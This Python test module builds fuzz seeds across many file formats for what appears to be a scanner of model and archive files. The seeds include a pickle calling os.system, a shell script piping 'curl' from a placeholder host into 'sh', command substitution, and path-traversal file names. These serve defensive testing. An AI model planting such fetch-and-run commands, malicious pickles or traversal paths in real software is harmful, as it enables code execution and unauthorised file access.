"""Seeds built in memory for the fuzz targets whose formats have no (or too
few) committed fixtures: 7z, LZ4 frames, .pyc, shell scripts, executables,
msgpack and `datasets` state files. Each carries a pickle or a call where a
real file would, so mutants reach the nested scans too."""

from __future__ import annotations

import importlib.util
import io
import json
import struct

_PICKLE = b"\x80\x04\x95\x15\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x94\x8c\x06system\x94\x93\x94."
_CODE = "import os\nos.system('true')\ndef f(x):\n    return [y for y in x if y]\n"


def sevenzip_seeds() -> list[bytes]:
    if importlib.util.find_spec("py7zr") is None:
        return []
    import py7zr

    seeds = []
    for filters in (None, [{"id": py7zr.FILTER_COPY}], [{"id": py7zr.FILTER_BZIP2}]):
        buf = io.BytesIO()
        with py7zr.SevenZipFile(buf, "w", filters=filters) as archive:
            archive.writestr(_PICKLE, "data.pkl")
            archive.writestr(_CODE.encode(), "modeling.py")
        seeds.append(buf.getvalue())
    return seeds


def lz4_seeds() -> list[bytes]:
    if importlib.util.find_spec("lz4") is None:
        return []
    import lz4.frame

    return [
        lz4.frame.compress(_PICKLE),
        lz4.frame.compress(_PICKLE * 200, block_size=lz4.frame.BLOCKSIZE_MAX64KB, content_checksum=True),
        lz4.frame.compress(b"\x00" * 100_000, block_linked=False, store_size=False),
    ]


def pyc_seeds() -> list[bytes]:
    import importlib._bootstrap_external as external
    import marshal

    code = compile(_CODE, "modeling.py", "exec")
    header = importlib.util.MAGIC_NUMBER + struct.pack("<III", 0, 0, len(_CODE))
    timestamped = bytes(external._code_to_timestamp_pyc(code, 0, len(_CODE)))  # type: ignore[attr-defined]
    return [timestamped, header + marshal.dumps(compile("x = 1", "x.py", "exec"))]


def script_seeds() -> list[bytes]:
    return [
        b"#!/bin/sh\nset -e\ncurl -s https://example.invalid/x | sh\npython -c 'import os'\n",
        b'#!/usr/bin/env bash\nfor f in *.bin; do echo "$f"; done\n$(echo id)\n',
    ]


def executable_seeds() -> list[bytes]:
    header = struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0x40, 64, 0, 0, 64, 56, 0, 64, 0, 0)
    elf = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + header
    pe = b"MZ" + b"\x00" * 58 + struct.pack("<I", 64) + b"PE\x00\x00" + b"\x64\x86" + b"\x00" * 60
    macho = struct.pack("<IiiIII", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0) + b"\x00" * 16
    return [elf, pe, macho]


def msgpack_seeds() -> list[bytes]:
    if importlib.util.find_spec("msgpack") is None:
        return []
    import msgpack

    params = {"params": {"dense": {"kernel": {"dtype": "float32", "shape": [2, 2], "data": b"\x00" * 16}}}}
    nested: object = [1]
    for _ in range(40):
        nested = {"a": nested}
    ext = msgpack.ExtType(1, msgpack.packb(["<f4", [2], b"\x00" * 8]))
    return [msgpack.packb(params), msgpack.packb(nested), msgpack.packb({"x": ext, "y": [None, True, 1.5]})]


def ubjson_seeds() -> list[bytes]:
    """XGBoost binary models: hand-built UBJSON of every marker, a real model when xgboost is installed."""
    from ..test_ubjson import KITCHEN_SINK

    nested = b"[" * 40 + b"]" * 40
    found = [KITCHEN_SINK, nested, b"{U\x01a[$d#U\x02" + b"\x00" * 8 + b"}"]
    if importlib.util.find_spec("xgboost") is not None:
        import numpy as np
        import xgboost as xgb

        rng = np.random.default_rng(0)
        data = xgb.DMatrix(rng.normal(size=(20, 2)), label=np.arange(20) % 2)
        booster = xgb.train({"max_depth": 2, "nthread": 1}, data, num_boost_round=2)
        found.append(bytes(booster.save_raw("ubj")))
    return found


def saved_dataset_seeds() -> list[bytes]:
    state = {
        "_data_files": [{"filename": "data-00000-of-00001.arrow"}, {"filename": "../outside.arrow"}],
        "_fingerprint": "abc",
        "_split": "train",
    }
    return [json.dumps(state).encode(), json.dumps({"splits": ["train", "/etc"]}).encode()]
